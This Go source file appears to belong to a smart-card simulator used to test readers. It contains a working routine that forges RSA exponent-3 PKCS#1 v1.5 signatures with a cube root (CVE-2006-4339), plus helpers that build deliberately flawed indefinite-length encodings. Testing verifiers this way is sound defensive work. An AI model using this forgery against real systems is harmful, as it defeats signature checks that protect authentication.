package pki

import (
	"math/big"
	"slices"

	"pivot/cardreader/cardsim/internal/der"
)

// cubeRootSignature is a number whose cube begins like a PKCS#1 v1.5 encoding of a SHA-256 digest and ends in
// rubbish: a signature without a key, to a verifier that accepts an exponent of 3 and does not look at the end
// (CVE-2006-4339).
func cubeRootSignature(digest []byte, size int) []byte {
	info := der.Sequence(der.Sequence(der.OID("2.16.840.1.101.3.4.2.1"), der.Null()), der.Octets(digest))
	prefix := slices.Concat([]byte{0, 1}, slices.Repeat([]byte{0xFF}, 8), []byte{0}, info)
	target := new(big.Int).SetBytes(prefix)
	target.Lsh(target, uint(8*(size-len(prefix))))
	return cubeRoot(target).FillBytes(make([]byte, size))
}

// cubeRoot is the smallest number whose cube is not under v.
func cubeRoot(v *big.Int) *big.Int {
	root := new(big.Int)
	for bit := v.BitLen()/3 + 1; bit >= 0; bit-- {
		root.SetBit(root, bit, 1)
		if cube(root).Cmp(v) > 0 {
			root.SetBit(root, bit, 0)
		}
	}
	if cube(root).Cmp(v) < 0 {
		root.Add(root, big.NewInt(1))
	}
	return root
}

func cube(v *big.Int) *big.Int { return new(big.Int).Exp(v, big.NewInt(3), nil) }

// sequence, explicit and octets are a SEQUENCE, a [0] and an OCTET STRING: by DER, or with indefinite lengths.
func (o Object) sequence(parts ...[]byte) []byte {
	return o.constructed(0x30, parts...)
}

func (o Object) explicit(parts ...[]byte) []byte { return o.constructed(0xA0, parts...) }

func (o Object) octets(content []byte) []byte {
	if o.Flaws.Indefinite {
		return o.constructed(0x24, der.Octets(content))
	}
	return der.Octets(content)
}

func (o Object) constructed(tag byte, parts ...[]byte) []byte {
	body := slices.Concat(parts...)
	if o.Flaws.Indefinite {
		return slices.Concat([]byte{tag, 0x80}, body, []byte{0, 0})
	}
	if tag == 0xA0 {
		return der.Context(0, body)
	}
	return der.Sequence(body)
}
